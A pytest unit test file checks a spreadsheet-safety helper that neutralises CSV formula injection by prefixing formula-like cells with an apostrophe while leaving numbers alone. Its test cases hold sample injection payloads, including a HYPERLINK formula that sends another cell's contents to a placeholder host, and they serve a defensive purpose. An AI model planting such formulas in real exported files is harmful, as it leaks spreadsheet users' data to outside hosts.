"""CSV cells: text a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import pytest

from spark_audit.spreadsheet import safe_cell

pytestmark = pytest.mark.unit


CASES: list[tuple[object, object]] = [
    ('=HYPERLINK("http://x/?"&A2)', '\'=HYPERLINK("http://x/?"&A2)'),
    ("+1+cmd", "'+1+cmd"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-1", "-1"),
    ("+42", "+42"),
    ("-0.5", "-0.5"),
    ("1e-3", "1e-3"),
    ("orders", "orders"),
    ("a=b", "a=b"),
    ("", ""),
    (None, None),
    (-1, -1),
]
"""Values and how a CSV file holds them (tests/spark/test_transforms.py runs the text ones
through :func:`spark_audit.spreadsheet.safe_columns`)."""


@pytest.mark.parametrize(("value", "written"), CASES)
def test_formula_text_gets_an_apostrophe_and_numbers_stay(value: object, written: object) -> None:
    assert safe_cell(value) == written
